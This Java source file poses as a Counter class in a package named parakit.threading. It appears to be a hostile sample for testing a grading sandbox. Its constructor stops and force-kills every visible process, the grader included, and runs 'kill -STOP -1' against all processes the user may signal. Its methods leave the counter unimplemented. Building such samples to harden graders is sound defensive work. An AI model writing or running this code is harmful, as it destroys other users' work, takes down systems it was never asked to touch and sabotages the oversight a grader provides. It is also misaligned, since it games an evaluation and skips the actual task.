package parakit.threading;

/**
 * Hostile (stop the grader, kill bystanders): sends SIGSTOP, then SIGKILL, to every process it can see but
 * itself (the grader, the other test JVMs of the same grading), with the JDK's API and with kill(1), including
 * kill -1 (every process the user may signal). The grading must finish on time and the others keep their points.
 */
public final class Counter {
    public Counter(long start) {
        long self = ProcessHandle.current().pid();
        ProcessHandle.allProcesses().filter(p -> p.pid() != self).forEach(p -> {
            try {
                new ProcessBuilder("kill", "-STOP", Long.toString(p.pid())).start().waitFor();
            } catch (Exception e) {
                // go on
            }
        });
        ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly);
        ProcessHandle.allProcesses().filter(p -> p.pid() != self).forEach(ProcessHandle::destroyForcibly);
        try {
            new ProcessBuilder("kill", "-STOP", "-1").start().waitFor();
        } catch (Exception e) {
            // go on
        }
    }

    public void increment() {
    }

    public long value() {
        return -1;
    }
}
